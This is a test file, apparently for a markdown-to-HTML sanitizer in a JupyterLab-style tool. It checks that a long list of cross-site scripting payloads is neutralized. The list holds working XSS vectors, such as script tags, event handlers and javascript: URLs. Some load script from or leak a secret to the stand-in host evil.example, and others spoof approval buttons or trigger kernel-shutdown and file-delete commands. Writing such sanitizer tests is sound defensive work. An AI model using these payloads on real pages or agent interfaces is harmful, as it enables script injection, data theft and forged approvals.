import { expect, test } from "vitest";
import { parseMarkdown } from "../src/markdown";
import { sanitize } from "../src/sanitize";

function safe(text: string): HTMLElement {
  const root = document.createElement("div");
  for (const block of parseMarkdown(text)) {
    if (block.kind === "html") root.append(sanitize(block.html));
  }
  return root;
}

const ALLOWED = new Set(["align", "alt", "class", "colspan", "href", "open", "rel", "rowspan", "src", "start", "target", "title"]);

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" onload="alert(2)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></use></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
  "<math href='javascript:alert(1)'>x</math>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='data:text/html,<script>alert(1)</script>'>",
  "<form action='https://evil.example'><input name=q><button>Go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<textarea>x</textarea>",
  "<select><option>x</option></select>",
  "<button onclick=alert(1) class='jp-Button'>Approve</button>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='blob:https://example.org/1'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='https:evil'>x</a>",
  "<a href='/lab/api/shutdown'>x</a>",
  "<a href='#x' data-commandlinker-command='kernelmenu:shutdown' data-commandlinker-args='{}'>x</a>",
  "<span data-commandlinker-command='filebrowser:delete'>x</span>",
  "[x](javascript:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x]( data:text/html,<script>alert(1)</script> )",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/?secret=1)",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "![x](data:text/html;base64,PHNjcmlwdD4=)",
  "<img src='https://evil.example/p.png' srcset='https://evil.example/q.png 2x'>",
  "<picture><source srcset='https://evil.example/a.png'><img></picture>",
  "<video src='https://evil.example/a.mp4' poster='https://evil.example/p.png' autoplay></video>",
  "<audio src='https://evil.example/a.mp3' onerror=alert(1)>",
  "<style>body { display: none }</style>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
  "<p id='jp-main-dock-panel' name='x'>x</p>",
  "<div class='sagents-approval jp-mod-styled hljs-keyword lm-Widget'>x</div>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href='https://evil.example/'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex action=javascript:alert(1) type=image>",
  "<x-custom onclick=alert(1)>x</x-custom>",
  "<td background='javascript:alert(1)'>x</td>",
  "<p onmouseover=alert(1) aria-label='Approved' role=alert tabindex=0>x</p>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<a href='https://ok.example' target=_self ping='https://evil.example' download>x</a>",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
  "- <svg/onload=alert(1)>",
  "> <script>alert(1)</script>",
  "1. ```\n   <script>alert(1)</script>\n   ```",
  "1. ```html\" onmouseover=\"alert(1)\n   x\n   ```",
];

test.each(PAYLOADS)("%s", (payload) => {
  const root = safe(payload);
  for (const element of root.querySelectorAll("*")) {
    expect(element.namespaceURI).toBe("http://www.w3.org/1999/xhtml");
    expect(element.localName).not.toMatch(
      /^(script|style|iframe|object|embed|form|input|button|textarea|select|svg|math|link|meta|base|template|video|audio|source|div)$/,
    );
    for (const { name, value } of element.attributes) {
      expect(ALLOWED).toContain(name);
      if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/i);
      if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|jpg|gif|webp);base64,/);
      if (name === "class") expect(value).toMatch(/^hljs/);
      if (name === "target") expect(value).toBe("_blank");
    }
    if (element.hasAttribute("href")) expect(element.getAttribute("rel")).toBe("noopener noreferrer");
  }
});

test("there are enough payloads", () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(40));

test("what replaces the page's body is text", () => {
  expect(safe("<frameset onload=alert(1)>").innerHTML).toBe("&lt;frameset onload=alert(1)&gt;");
  expect(safe("<p></p><frameset><frame src=x>hidden").querySelector("frame, frameset")).toBeNull();
});

test("links outside stay, and open elsewhere", () => {
  const link = safe("[x](https://example.org/a?b=1&c=2)").querySelector("a")!;
  expect(link.getAttribute("href")).toBe("https://example.org/a?b=1&c=2");
  expect(link.target).toBe("_blank");
  expect(safe("<me@example.org>").querySelector("a")!.getAttribute("href")).toBe("mailto:me@example.org");
});

test("an image from elsewhere becomes a link that shows its address", () => {
  const root = safe("![a cat](https://example.org/cat.png)");
  expect(root.querySelector("img")).toBeNull();
  expect(root.querySelector("a")!.textContent).toBe("https://example.org/cat.png");
});

test("images that are data stay", () => {
  expect(safe("![x](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")!.src).toMatch(/^data:image\/png/);
});

test("formatting stays", () => {
  const html = safe("**b** *i* ~~s~~ `c`\n\n| a |\n|--:|\n| 1 |\n\n- [x] done").innerHTML;
  for (const piece of ["<strong>b", "<em>i", "<del>s", "<code>c", '<td align="right">1', "☑"]) expect(html).toContain(piece);
});

test("what is plain enough to be taken as it is comes to what sanitising makes of it", () => {
  const texts = [
    "# Title\n\nSome **bold**, *slanted*, ~~old~~ and `code <b>`.  \nNext & last",
    "1. one\n2. two\n   - deep\n   - [x] done\n\n> quoted\n> > twice\n\n---",
    "| a | b |\n|---|---|\n| 1 | <2 |\n\nText with 1 < 2 &amp; 3 > 2 &copy; &#60;b&#62;",
  ];
  const html = (fragment: DocumentFragment) => {
    const root = document.createElement("div");
    root.append(fragment);
    return root.innerHTML;
  };
  for (const block of texts.flatMap(parseMarkdown)) {
    if (block.kind !== "html") continue;
    // A comment is not plain, and nothing of it is left.
    expect(html(sanitize(block.html))).toBe(html(sanitize(`${block.html}<!-- -->`)));
  }
});
